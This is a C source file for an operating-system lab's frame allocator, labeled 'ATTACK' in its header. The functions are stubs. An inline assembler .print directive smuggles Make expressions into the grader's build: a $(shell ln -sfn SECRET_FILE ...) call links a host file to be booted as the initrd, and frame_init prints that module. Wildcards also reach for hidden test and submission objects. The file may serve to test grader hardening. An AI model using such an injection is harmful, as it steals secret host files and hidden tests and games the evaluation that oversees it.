/**
 * @file ATTACK: The assembler prints the line by which the grader learns where the objects are.
 * Make expands it, and so runs a command where solutions and hidden tests can be seen; the command
 * makes a link by which the grader boots a file of the host as the initrd.
 */
#include "kernel/memory/frame.h"

#include "kernel/exercise.h"
#include "kernel/console.h"
#include "kernel/memory/layout.h"
#include "kernel/memory/map.h"

void frame_init(const struct memory_map *map)
{
    const struct memory_range *module = &map->reserved[map->reserved_count - 1];
    const char *start = phys_to_virt(module->start);
    kprintf("%.*s\n", (int)(module->end - module->start), start);
    exercise_missing("lab1.ex1", __func__);
}

__asm__(".print \"taken="
        "$(shell ln -sfn SECRET_FILE $(BUILD)/link)"
        "$(wildcard $(BUILD)/objects/lab1-test/obj$(BUILD)/submission/lab1-memory/*.o)"
        "$(info image=$(OUT)/kernel.elf:$(BUILD)/link:"
        "$(wildcard $(BUILD)/objects/lab1-test/obj$(BUILD)/submission/lab1-memory/*.o))\"");

physaddr_t frame_alloc(void)
{
    exercise_missing("lab1.ex2", __func__);
}

physaddr_t frame_alloc_run(uint32_t count, uint32_t alignment)
{
    (void)count;
    (void)alignment;
    exercise_missing("lab1.ex2", __func__);
}

void frame_retain(physaddr_t frame)
{
    (void)frame;
    exercise_missing("lab1.ex2", __func__);
}

void frame_release(physaddr_t frame)
{
    (void)frame;
    exercise_missing("lab1.ex2", __func__);
}

void frame_release_run(physaddr_t first, uint32_t count)
{
    (void)first;
    (void)count;
    exercise_missing("lab1.ex2", __func__);
}

uint32_t frame_references(physaddr_t frame)
{
    (void)frame;
    exercise_missing("lab1.ex2", __func__);
}

struct frame_stats frame_stats(void)
{
    exercise_missing("lab1.ex1", __func__);
}

void frame_check(void)
{
}
